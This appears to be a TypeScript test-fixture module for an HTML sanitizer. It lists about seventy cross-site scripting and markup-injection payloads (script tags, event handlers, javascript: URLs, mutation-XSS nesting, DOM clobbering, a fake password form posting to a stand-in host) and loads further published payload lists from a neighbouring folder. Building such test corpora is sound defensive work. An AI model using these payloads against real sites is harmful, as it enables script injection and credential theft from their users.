import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';

/** Markup made to run a script, to steal a click or to imitate a part of the page. */
export interface HostilePayload {
  readonly id: string;
  readonly payload: string;
}

const OWN = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert`1`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<applet code=x onerror=alert(1)></applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://portal.example/1">x</a>',
  '<a href="intent://x#Intent;scheme=http;end">x</a>',
  '<a href="/a" onclick="alert(1)" onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<a href="/a" ping="https://elsewhere.example/ping" accesskey=x>x</a>',
  '<a href="/a" target="_top">x</a>',
  '<a href="/a" target="main" rel="opener">x</a>',
  '<area href="javascript:alert(1)" shape=default><map name=m></map>',
  '<form action="https://elsewhere.example"><input name=password type=password><button>Sign in</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<label for=search>x</label><output name=documentElement>x</output>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<dialog open>Session over</dialog>',
  '<div role=dialog aria-modal=true>Session over</div>',
  '<div popover id=p>x</div><button popovertarget=p command=show-popover commandfor=p>x</button>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<style>*{display:none}</style><style>@import "https://elsewhere.example/x.css";</style>',
  '<link rel=stylesheet href="https://elsewhere.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://elsewhere.example/">',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<slot name=x onslotchange=alert(1)></slot>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<picture><source srcset="x" onerror=alert(1)><img src=x srcset="https://elsewhere.example/x 2x"></picture>',
  '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,x">',
  '<img src=/a.png usemap=#m longdesc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img name=getElementById><img id=body><form name=cookie></form><a id=defaultView></a>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<body onload=alert(1) background="javascript:alert(1)">x</body>',
  '<marquee onstart=alert(1)>x</marquee><bgsound src="javascript:alert(1)">',
  '<x onclick=alert(1)>x</x><x-y is=z>x</x-y><xss style="behavior:url(x.htc)">x</xss>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml-stylesheet href="javascript:alert(1)"?><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p data-tile=bank data-x=1 class="status-active" id=main name=main slot=x part=x nonce=x itemscope>x</p>',
  '<isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)><command onclick=alert(1)>',
  '<time datetime="javascript:alert(1)" title="<img src=x onerror=alert(1)>">x</time><q cite="javascript:alert(1)">x</q>',
] as const;

const FOLDER = path.resolve(process.cwd(), '../shared/attacks');

const fileNames = (): readonly string[] =>
  existsSync(FOLDER) ? readdirSync(FOLDER).filter((name) => /^xss-.*\.json$/.test(name)) : [];

/** The payloads by origin: our own list, and published lists that may be beside this checkout. */
export const hostilePayloads: Readonly<Record<string, readonly HostilePayload[]>> = {
  'our own list': OWN.map((payload, index) => ({ id: `own-${index + 1}`, payload })),
  ...Object.fromEntries(
    fileNames().map((name) => [
      name,
      (JSON.parse(readFileSync(path.join(FOLDER, name), 'utf8')) as { readonly cases: readonly HostilePayload[] })
        .cases,
    ]),
  ),
};
